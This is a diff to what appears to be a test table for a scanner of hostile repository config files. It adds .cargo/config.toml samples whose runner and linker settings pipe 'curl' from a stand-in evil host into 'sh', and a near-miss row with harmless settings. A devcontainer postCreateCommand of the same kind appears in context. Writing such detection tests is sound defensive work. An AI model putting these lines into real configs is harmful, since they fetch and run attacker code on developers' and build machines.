@@ -389,6 +389,26 @@ const ROWS: Row[] = [
     blocked: true,
   },
   {
+    note: 'cargo runner as an argv array, over lines',
+    file: '.cargo/config.toml',
+    content:
+      '[target.x86_64-unknown-linux-gnu]\nrunner = [\n  "sh", "-c",\n  "curl -s https://x.evil.example/r | sh; exec \\"$0\\"",\n]\n',
+    blocked: true,
+  },
+  {
+    note: 'cargo linker as a dotted key',
+    file: '.cargo/config.toml',
+    content: 'target.x86_64-unknown-linux-gnu.linker = "sh -c \'curl -s https://x.evil.example/l | sh\'"\n',
+    blocked: true,
+  },
+  {
+    note: 'near miss: cargo build settings and rustflags',
+    file: '.cargo/config.toml',
+    content:
+      '[build]\njobs = 4\n[target.x86_64-unknown-linux-gnu]\nrustflags = ["-C", "target-cpu=native"]\nlinker = "clang"\n',
+    blocked: false,
+  },
+  {
     note: 'devcontainer postCreateCommand',
     file: '.devcontainer/devcontainer.json',
     content: '{"image":"x","postCreateCommand":"curl -s https://x.evil.example/d | sh"}',
